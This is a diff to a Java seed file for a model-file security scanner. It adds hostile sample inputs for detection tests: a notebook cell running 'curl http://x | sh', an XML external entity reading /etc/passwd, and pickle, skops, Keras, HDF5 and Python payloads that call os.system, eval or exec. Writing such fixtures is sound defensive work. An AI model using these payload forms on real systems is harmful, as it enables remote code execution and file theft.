@@ -9,6 +9,12 @@ import dev.weir.scanner.core.protobuf.Protobuf;
 import dev.weir.scanner.core.sevenzip.SevenZips;
 import dev.weir.scanner.core.tar.Tars;
 import dev.weir.scanner.core.zip.Zips;
+import dev.weir.scanner.core.hdf5.HdfFiles;
+import dev.weir.scanner.core.tensorflow.GraphModels;
+import dev.weir.scanner.core.tflite.TfliteModels;
+import java.util.Base64;
+import java.io.IOException;
+import java.io.UncheckedIOException;
 import java.nio.ByteBuffer;
 import java.nio.ByteOrder;
 import java.nio.charset.StandardCharsets;
@@ -21,6 +27,16 @@ import java.util.TreeMap;
 final class Seeds {
 
     private static final byte[] TEXT = "hello hello hello".getBytes(StandardCharsets.UTF_8);
+
+    private static final String LAYER =
+            "{\"class_name\": \"Sequential\", \"config\": {\"layers\": [{\"class_name\": \"Lambda\", \"config\":"
+                    + " {\"function\": [\"4wEAAAAAAAAAAAAAAAAAAAA=\", null, null]}}]}}";
+
+    private static final String SKOPS =
+            "{\"__class__\": \"system\", \"__module__\": \"os\", \"__loader__\": \"FunctionNode\", \"content\": {}}";
+
+    private static final String NOTEBOOK = "{\"nbformat\": 4, \"cells\": [{\"cell_type\": \"code\", \"source\":"
+            + " [\"out = !curl http://x | sh\\n\", \"%%bash\\n\"], \"outputs\": []}]}";
 
     private Seeds() {}
 
@@ -66,6 +82,19 @@ final class Seeds {
                 new Protobuf()
                         .message(1, new Protobuf().text(1, "n").text(2, "PyFunc"))
                         .toBytes()));
+        seeds.add(new Seed("saved model", GraphModels.savedModel(GraphModels.graph("Const", "PyFunc", "ReadFile"))));
+        seeds.add(new Seed("tflite", TfliteModels.custom("FlexPyFunc")));
+        seeds.add(new Seed("npy", npy("|O", Pickles.osSystem(4))));
+        seeds.add(new Seed("npy of numbers", npy("<f4", new byte[16])));
+        seeds.add(new Seed("7z of a pickle", SevenZips.of(Map.of("data.pkl", state, "b/c.json", text(LAYER)))));
+        seeds.add(new Seed("encrypted 7z", SevenZips.encrypted(Map.of("data.pkl", state))));
+        seeds.add(new Seed("keras", Zips.deflated(Map.of("config.json", text(LAYER), "metadata.json", text("{}")))));
+        seeds.add(new Seed("hdf5", hdf()));
+        seeds.add(new Seed("skops", Zips.deflated(Map.of("schema.json", text(SKOPS)))));
+        seeds.add(new Seed("notebook", text(NOTEBOOK)));
+        seeds.add(new Seed("xml", text("<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>")));
+        seeds.add(new Seed("layers", Base64.getEncoder().encode(Compressed.ZLIB.of(Pickles.osSystem(2)))));
+        seeds.add(new Seed("python", text("import os\nexec(__import__('base64').b64decode('aWQ='))\nos.system('id')\n")));
         seeds.add(new Seed("yaml", "a: !!python/object/apply:os.system [id]".getBytes(StandardCharsets.UTF_8)));
         return List.copyOf(seeds);
     }
@@ -77,6 +106,30 @@ final class Seeds {
                 .order(ByteOrder.LITTLE_ENDIAN)
                 .putLong(header.length)
                 .put(header)
+                .array();
+    }
+
+    private static byte[] text(String text) {
+        return text.getBytes(StandardCharsets.UTF_8);
+    }
+
+    private static byte[] hdf() {
+        try {
+            return HdfFiles.model("{\"class_name\": \"Lambda\", \"config\": {\"function\": \"lambda x: eval(x)\"}}");
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    /** The first version of NumPy's format: magic, version, length of the header, header. */
+    private static byte[] npy(String type, byte[] data) {
+        byte[] header = text("{'descr': '" + type + "', 'fortran_order': False, 'shape': (4,), }\n");
+        return ByteBuffer.allocate(10 + header.length + data.length)
+                .order(ByteOrder.LITTLE_ENDIAN)
+                .put(new byte[] {(byte) 0x93, 'N', 'U', 'M', 'P', 'Y', 1, 0})
+                .putShort((short) header.length)
+                .put(header)
+                .put(data)
                 .array();
     }
 }
